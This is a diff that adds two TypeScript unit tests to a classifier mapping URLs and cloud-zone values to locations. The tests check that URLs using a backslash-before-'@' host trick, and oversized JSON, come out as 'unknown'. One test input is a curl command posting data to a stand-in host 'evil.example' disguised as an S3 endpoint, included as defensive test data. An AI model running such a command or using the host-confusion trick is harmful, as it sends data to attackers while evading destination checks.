@@ -95,6 +95,23 @@ describe("values resolve to places", () => {
         expect(zonePlace("use1-bos1-az1")?.kind).toBe("unknown");
     });
 
+    test("a backslash in a URL's host part is unknown, whole or in text: parsers disagree on the host it reaches", () => {
+        for (const v of [
+            "https://evil.example\\@s3.us-east-1.amazonaws.com/x",
+            "https://hooks.partner.example\\@evil.example/x",
+            "curl -d @- https://evil.example\\@s3.us-east-1.amazonaws.com/x",
+        ]) {
+            expect(placesOf(v).map((p) => p.kind)).toEqual(["unknown"]);
+        }
+        expect(placesOf("https://dynamodb.us-east-1.amazonaws.com/a\\b")).toEqual([{ kind: "location", location: "aws:us-east-1" }]);
+    });
+
+    test("a JSON document longer than the pack reads is unknown, not read in part as naming nothing", () => {
+        const doc = (n: number) => JSON.stringify({ steps: [{ url: "https://hooks.partner-eu.example/x" }, ...Array.from({ length: n }, (_, i) => `v${i}`)] });
+        expect(placesOf(doc(6_000), "definition").map((p) => p.kind)).toContain("unknown");
+        expect(placesOf(doc(100), "definition")).toEqual([{ kind: "external", uri: "https://hooks.partner-eu.example/x" }]);
+    });
+
     test("hosts, emails and phones are read by shape", () => {
         expect(bareHost("api.partner.example:443")).toBe("api.partner.example");
         expect(bareHost("README.md")).toBeUndefined();
